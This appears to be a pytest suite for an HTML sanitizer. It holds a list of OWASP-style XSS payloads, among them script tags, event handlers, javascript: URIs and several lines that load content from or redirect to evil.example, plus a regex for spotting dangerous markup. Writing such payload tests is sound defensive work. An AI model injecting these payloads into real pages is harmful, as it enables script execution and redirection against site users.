"""Hostile HTML must be inert wherever a message is shown (a payload list in the OWASP style)."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ascolto.core.sanitize import html_to_text, sanitize_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example"><input name=p></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)>",
    '<p title="&quot;><script>alert(1)</script>">x</p>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<video><source onerror="alert(1)"></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

DANGEROUS = re.compile(
    r"<\s*(script|iframe|object|embed|style|form|input|meta|base|link|svg|math|video|body)\b"
    r"|\son\w+\s*=|javascript:|vbscript:|data:text/html",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert(payload):
    assert not DANGEROUS.search(sanitize_html(payload))


def test_harmless_formatting_survives():
    html = '<p dir="rtl">שלום <strong>עולם</strong> <a href="https://example.com">link</a></p>'
    clean = sanitize_html(html)
    assert "<strong>עולם</strong>" in clean
    assert 'href="https://example.com"' in clean
    assert "nofollow" in clean
    assert 'dir="rtl"' in clean


@given(st.text(max_size=300))
def test_sanitising_is_stable(text):
    once = sanitize_html(text)
    # Text may mention "javascript:" harmlessly; no tag or attribute may survive to run it.
    assert not re.search(r"<\s*script|\son\w+\s*=", once, re.IGNORECASE)
    assert sanitize_html(once) == once


def test_plain_text_rendering():
    assert (
        html_to_text("<p>Ciao<br>Mario &amp; Co</p><p>A presto</p>") == "Ciao\nMario & Co\nA presto"
    )
